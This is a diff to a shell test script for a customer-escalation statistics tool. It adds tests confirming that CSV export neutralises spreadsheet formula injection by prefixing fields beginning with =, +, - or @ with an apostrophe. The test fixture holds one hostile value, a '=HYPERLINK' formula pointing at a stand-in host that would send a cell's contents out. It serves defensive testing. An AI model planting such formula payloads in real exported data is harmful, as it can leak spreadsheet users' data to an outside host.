@@ -6,7 +6,7 @@
 # once and only once; several --db; the store errors; bad options.
 . "$(dirname "$0")/lib.sh"
 
-plan 129
+plan 131
 
 command -v sqlite3 > /dev/null 2>&1 || { echo "1..0 # SKIP the sqlite3 shell is needed"; exit 0; }
 
@@ -270,6 +270,19 @@ EOF
 is "$(sed -n 1,3p "$T/csv" | tr '\n' ' ')" "9 True True " "--csv: 9 blocks, a blank line between, every row as wide as its header row"
 is "$(sed -n 4p "$T/csv")" 'I want a refund, you charged me "twice"' "--csv: a field with a comma and quotes, RFC 4180 quoted"
 is "$(sed -n 5p "$T/csv")" "0.5,0.0945,0.9055" "--csv: a rate and its interval in three columns"
+# customers' words that a spreadsheet would run as a formula: a ' first
+printf '%s\n' '{"id":"f1","conversation_id":"cf","user_id":"@uf","created_at":"2026-03-02T10:00:00Z","role":"customer","text":"=HYPERLINK(\"http://x.example/\"&A1) I want to cancel, I will talk to my lawyer","tier":"+1"}' |
+	tool esc-detect | tool esc-offer | tool esc-log --db "$T/formula.db" > /dev/null 2> "$T/err"
+echo '{"event":"assignment","id":"fa","message_id":"f1","agent":"-dana","at":"2026-03-02T10:05:00Z"}' |
+	tool esc-log --db "$T/formula.db" > /dev/null 2>> "$T/err"
+run esc-stats --db "$T/formula.db" --now "$NOW" --section recent --section tier --csv
+is "$(python3 -c 'import csv, sys
+r = [x for x in csv.reader(open(sys.argv[1], newline="")) if x]
+h = r[0]; t = r[1]; h2 = r[2]; e = r[3]
+print(t[h.index("tier")], e[h2.index("agent")], e[h2.index("user_id")], e[h2.index("question")][:12], sep="|")' "$T/out")" \
+	"'+1|'-dana|'@uf|'=HYPERLINK(" "--csv: a text starting with = + - @ gets a ' first, so no spreadsheet runs it"
+run esc-stats --db "$T/formula.db" --now "$NOW" --section recent
+is "$(jq -r '[.agent, .user_id, .question[:11]] | join("|")' "$T/out")" "-dana|@uf|=HYPERLINK(" "... JSON keeps the text as it is"
 run esc-stats --db "$DB" --now "$NOW" --explain
 like "$(cat "$T/out")" "USING COVERING INDEX escalations_cube" "--explain: the by_* counts read the covering index"
 like "$(cat "$T/out")" "USING COVERING INDEX escalations_sla" "--explain: the SLA reads its covering index"
